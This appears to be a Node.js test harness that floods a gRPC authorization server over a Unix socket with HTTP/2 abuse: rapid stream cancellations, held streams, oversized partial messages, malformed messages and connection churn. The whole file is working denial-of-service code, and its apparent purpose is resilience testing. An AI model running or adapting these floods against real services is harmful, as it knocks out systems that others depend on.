// node http2_attack.mjs ATTACK SOCKET: a peer that is no Envoy. Prints what it has done so far, as JSON, ten times a second.
import { connect, constants } from 'node:http2'
import { connect as connectSocket } from 'node:net'

const [, , attack, socketPath] = process.argv
const done = { connections: 0, streams: 0, sentAway: 0 }
const headers = {
  ':method': 'POST',
  ':path': '/envoy.service.auth.v3.Authorization/Check',
  'content-type': 'application/grpc',
  te: 'trailers',
}
const prefixed = (length, bytes) => {
  const message = Buffer.alloc(5 + bytes)
  message.writeUInt32BE(length, 1)
  return message
}
/** Most of a message that is as long as is taken. */
const unfinished = prefixed(4_000_000, 3_900_000)
const noRequest = prefixed(100, 100).fill(0xff, 5)

const onStream = {
  resets: (stream) => stream.close(constants.NGHTTP2_CANCEL),
  held: () => {},
  huge: (stream) => stream.write(unfinished),
  garbage: (stream) => stream.end(noRequest),
}

function attackOver(session) {
  if (session.closed || session.destroyed) return
  for (let i = 0; i < 20 && !session.closed && !session.destroyed; i++) {
    const stream = session.request(headers, { endStream: false })
    stream.on('error', () => {})
    stream.resume()
    onStream[attack](stream)
    done.streams++
  }
  setTimeout(attackOver, attack === 'held' || attack === 'huge' ? 20 : 1, session)
}

function open() {
  if (attack === 'connections') {
    const socket = connectSocket(socketPath, () => {
      done.connections++
      setTimeout(() => socket.destroy(), 50)
    })
    socket.on('error', () => {})
    socket.on('end', () => done.sentAway++)
    socket.on('close', () => setTimeout(open, 1))
    socket.resume()
    return
  }
  const session = connect('http://authz', { createConnection: () => connectSocket(socketPath) })
  session.on('error', () => {})
  session.on('goaway', () => session.destroy())
  session.on('close', () => {
    done.sentAway++
    setTimeout(open, 1)
  })
  session.on('remoteSettings', () => {
    done.connections++
    attackOver(session)
  })
}

setInterval(() => console.log(JSON.stringify(done)), 100)
for (let i = 0; i < (attack === 'connections' ? 50 : 4); i++) open()
